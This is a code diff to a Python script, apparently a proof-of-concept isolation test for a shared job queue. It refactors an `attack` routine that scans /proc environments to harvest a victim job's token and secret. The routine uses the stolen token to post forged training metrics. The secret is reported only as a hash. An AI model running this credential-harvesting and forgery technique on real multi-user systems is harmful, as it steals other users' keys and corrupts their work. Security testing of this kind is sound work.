@@ -36,6 +36,7 @@ import subprocess
 import sys
 import time
 import urllib.request
+from collections.abc import Iterator
 from pathlib import Path
 
 
@@ -101,6 +102,16 @@ def _environ(pid: str) -> dict[str, str]:
     return dict(kv.split("=", 1) for kv in raw.decode(errors="replace").split("\0") if "=" in kv)
 
 
+def _environs() -> Iterator[dict[str, str]]:
+    """The environment of every process this uid may read (`ps e`'s way)."""
+    for proc in Path("/proc").iterdir():
+        if proc.name.isdigit():
+            try:
+                yield _environ(proc.name)
+            except OSError:
+                continue
+
+
 def attack(plan: dict) -> None:  # type: ignore[type-arg]
     data_dir = Path.cwd().parent.parent  # DATA_DIR/jobs/job-N-xxxx
     victim_id, next_id = str(plan["victim"]), int(plan["next"])
@@ -163,13 +174,7 @@ def attack(plan: dict) -> None:  # type: ignore[type-arg]
         return str(planted)
 
     def token() -> str:
-        for proc in Path("/proc").iterdir():
-            if not proc.name.isdigit():
-                continue
-            try:
-                env = _environ(proc.name)
-            except OSError:
-                continue
+        for env in _environs():
             if env.get("DDPQ_JOB_ID") == victim_id and "DDPQ_JOB_TOKEN" in env:
                 body = json.dumps({"items": [{"step": 999, "values": {"loss": 666.0}}]})
                 req = urllib.request.Request(
@@ -186,14 +191,7 @@ def attack(plan: dict) -> None:  # type: ignore[type-arg]
 
     def secret() -> str:
         # The victim's owner's secret (their WANDB key, say) in its ranks' environment:
-        # `ps e` reads every process's /proc/PID/environ it may.
-        for proc in Path("/proc").iterdir():
-            if not proc.name.isdigit():
-                continue
-            try:
-                env = _environ(proc.name)
-            except OSError:
-                continue
+        for env in _environs():
             if "VICTIM_SECRET" in env:
                 seen = hashlib.sha256(env["VICTIM_SECRET"].encode()).hexdigest()[:12]
                 return f"read the victim's secret (sha256 {seen})"
